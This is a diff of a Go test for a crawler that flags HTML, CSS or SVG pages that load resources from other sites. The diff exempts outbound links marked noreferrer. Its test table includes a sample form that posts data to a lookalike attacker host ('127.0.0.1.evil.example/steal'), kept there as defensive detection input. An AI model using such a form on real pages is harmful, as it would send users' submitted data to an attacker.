@@ -76,13 +76,17 @@ func crawl(t *testing.T, c *client, beginnings ...string) map[string]answer {
 	return read
 }
 
+// outward is a link that a person may follow to another site: it loads nothing
+// by itself and tells that site nothing of ours.
+var outward = regexp.MustCompile(`<a href="https://[^"]*" rel="noreferrer noopener external">`)
+
 func references(a answer) []string {
 	kind := a.header.Get("Content-Type")
 	if !strings.HasPrefix(kind, "text/html") && !strings.HasPrefix(kind, "text/css") && !strings.HasPrefix(kind, "image/svg") {
 		return nil
 	}
 	var found []string
-	for _, match := range reference.FindAllStringSubmatch(string(a.body), -1) {
+	for _, match := range reference.FindAllStringSubmatch(string(outward.ReplaceAll(a.body, nil)), -1) {
 		found = append(found, strings.ReplaceAll(match[1]+match[2], "&amp;", "&"))
 	}
 	return found
@@ -153,17 +157,19 @@ func TestForeignIsSeen(t *testing.T) {
 	t.Parallel()
 	html := http.Header{"Content-Type": {"text/html"}}
 	for text, want := range map[string]bool{
-		`<script src="/static/app.js"></script>`:                            false,
-		`<a href="http://127.0.0.1:1/repository">`:                          false,
-		`<p>Reaction</p>`:                                                   false,
-		`<script src="//cdn.example/x.js"></script>`:                        true,
-		`<script src="https://unpkg.com/htmx.org"></script>`:                true,
-		`<link rel=stylesheet href='http://fonts.example/a.css'>`:           true,
-		`<style>body { background: url(https://example.com/a.png) }`:        true,
-		`<div data-reactroot="">`:                                           true,
-		`/** @license React v18 react.production.min.js */`:                 true,
-		`<img srcset="https://example.com/a.png 2x">`:                       true,
-		`<form method="post" action="http://127.0.0.1.evil.example/steal">`: true,
+		`<script src="/static/app.js"></script>`:                              false,
+		`<a href="http://127.0.0.1:1/repository">`:                            false,
+		`<p>Reaction</p>`:                                                     false,
+		`<a href="https://body.example/" rel="noreferrer noopener external">`: false,
+		`<a href="https://body.example/">`:                                    true,
+		`<script src="//cdn.example/x.js"></script>`:                          true,
+		`<script src="https://unpkg.com/htmx.org"></script>`:                  true,
+		`<link rel=stylesheet href='http://fonts.example/a.css'>`:             true,
+		`<style>body { background: url(https://example.com/a.png) }`:          true,
+		`<div data-reactroot="">`:                                             true,
+		`/** @license React v18 react.production.min.js */`:                   true,
+		`<img srcset="https://example.com/a.png 2x">`:                         true,
+		`<form method="post" action="http://127.0.0.1.evil.example/steal">`:   true,
 	} {
 		if got := foreign(answer{header: html, body: []byte(text)}, "http://127.0.0.1:1"); (got != "") != want {
 			t.Errorf("%s: %q", text, got)
